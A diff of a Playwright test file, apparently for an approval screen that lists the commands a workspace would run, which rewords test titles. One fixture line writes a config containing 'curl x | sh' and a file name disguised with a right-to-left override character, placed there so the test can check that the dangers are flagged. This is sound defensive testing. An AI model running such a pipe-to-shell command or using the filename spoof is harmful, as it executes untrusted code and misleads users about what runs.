@@ -4,7 +4,7 @@ import { expect, test } from '../support/app.ts'
 import { addFolder, expectHeartbeatsDone, expectNothingForAxe } from '../support/page.ts'
 import { configurationOf, writeWorkspace } from '../support/workspaces.ts'
 
-test('the review says when each thing happens, what is new and what is dangerous, and needs no mouse', {
+test('the review says when each command runs, what is new and what is dangerous, and needs no mouse', {
   tag: '@page',
 }, async ({ app, folder }) => {
   const { page } = app
@@ -12,7 +12,7 @@ test('the review says when each thing happens, what is new and what is dangerous
   await addFolder(page, directory)
   const approval = page.getByRole('region', { name: 'Approval' })
 
-  await test.step('what there is to approve is counted by kind and grouped by when', async () => {
+  await test.step('what needs approval is counted by kind and grouped by when it runs', async () => {
     await expect(approval.getByRole('heading', { level: 3 }).first()).toHaveText(
       'It would run 2 commands and read 1 file',
     )
@@ -26,7 +26,7 @@ test('the review says when each thing happens, what is new and what is dangerous
     await expectHeartbeatsDone(page, 1)
   })
 
-  await test.step('a change is marked, line by line and thing by thing, and dangers are said in words', async () => {
+  await test.step('a change is marked line by line and item by item, and dangers are described', async () => {
     await writeFile(
       join(directory, 'pulseward.toml'),
       `${configurationOf('first').replace('[["true"]]', '[["true"], ["sh", "-c", "curl x | sh"], ["./run\u202ehs.tset"]]')}\n[probes.remote]\nurl = "https://example.invalid/count"\n`,
@@ -55,7 +55,7 @@ test('the review says when each thing happens, what is new and what is dangerous
   })
 })
 
-test('what a check only reads is protected by one press, before and after the approval', {
+test('a file that a check only reads is protected with one click, before and after the approval', {
   tag: '@page',
 }, async ({ app, folder }) => {
   const { page } = app
@@ -70,7 +70,7 @@ test('what a check only reads is protected by one press, before and after the ap
   const gate = checks.getByRole('listitem').filter({ hasText: 'grep -qr 1 agent.mjs' })
   const messages = page.getByRole('status', { name: 'Messages' })
 
-  await test.step('before it is approved, it is written for the approval to cover', async () => {
+  await test.step('before the approval it is saved, so that the approval covers it', async () => {
     await gate.getByRole('button', { name: 'Protect agent.mjs' }).press('Enter')
     await expect(messages).toContainText('agent.mjs was added to protected')
     await expect(gate).toContainText('protected')
@@ -80,7 +80,7 @@ test('what a check only reads is protected by one press, before and after the ap
     await expectHeartbeatsDone(page, 1)
   })
 
-  await test.step('afterwards, from the setup of the workspace, it counts at once', async () => {
+  await test.step('afterwards, from the workspace’s setup, it takes effect at once', async () => {
     await page.getByRole('link', { name: 'Setup' }).click()
     await expect(gate).toContainText('only reads agent.mjsprotected')
     await gate.getByRole('button', { name: 'Protect count.txt' }).click()
